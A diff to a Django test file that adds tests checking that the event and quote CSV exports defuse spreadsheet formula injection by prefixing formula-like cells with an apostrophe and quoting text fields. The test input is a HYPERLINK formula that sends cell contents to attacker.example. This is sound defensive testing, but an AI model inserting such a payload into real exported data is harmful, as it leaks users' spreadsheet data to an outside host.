@@ -11,7 +11,7 @@ import pytest
 from django.http import StreamingHttpResponse
 
 from events.api.exports import EVENT_CSV_COLUMNS
-from events.models import Actor, Quote
+from events.models import Actor, Place, Quote
 
 pytestmark = pytest.mark.django_db
 
@@ -130,6 +130,42 @@ def test_quotes_export_as_csv(api_client, make_article):
         "Anna Nowak",
         "Port blaze",
     )
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_csv_cells_that_start_like_a_formula_are_shown_as_text(
+    api_client, make_event, make_article, start
+):
+    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    actor = Actor.objects.create(name=formula)
+    place = Place.objects.create(name=formula, kind="city", latitude=-33.9, longitude=-70.6)
+    article = make_article(title=formula, outlet=formula)
+    make_event(
+        title=formula, summary=formula, places=[place], participants={actor: "initiator"},
+        articles=[article],
+    )  # fmt: skip
+    Quote.objects.create(
+        text=formula, speaker=actor, speaker_name=formula, article=article, start=0, end=5
+    )
+
+    (event,) = csv.DictReader(io.StringIO(streamed_text(api_client.get("/api/events/?format=csv"))))
+    (quote,) = csv.DictReader(io.StringIO(streamed_text(api_client.get("/api/quotes/?format=csv"))))
+
+    for row, columns in (
+        (event, ["actor1", "place_names", "location", "source_article_titles", "notes"]),
+        (quote, ["text", "speaker", "speaker_name", "article_title", "article_outlet"]),
+    ):
+        for column in columns:
+            assert row[column] == "'" + formula, column
+    # Numbers stay numbers: a negative coordinate is not a formula.
+    assert (event["latitude"], event["longitude"]) == ("-33.9", "-70.6")
+
+
+def test_csv_text_is_quoted_so_a_semicolon_cannot_split_a_cell(api_client, make_event):
+    make_event(summary="Talks; =1+1")
+    _header, row = streamed_text(api_client.get("/api/events/?format=csv")).splitlines()
+    assert '"Talks; =1+1"' in row
+    assert row.split(",")[0].isdigit()  # the id, a number, is left bare
 
 
 @pytest.mark.parametrize(
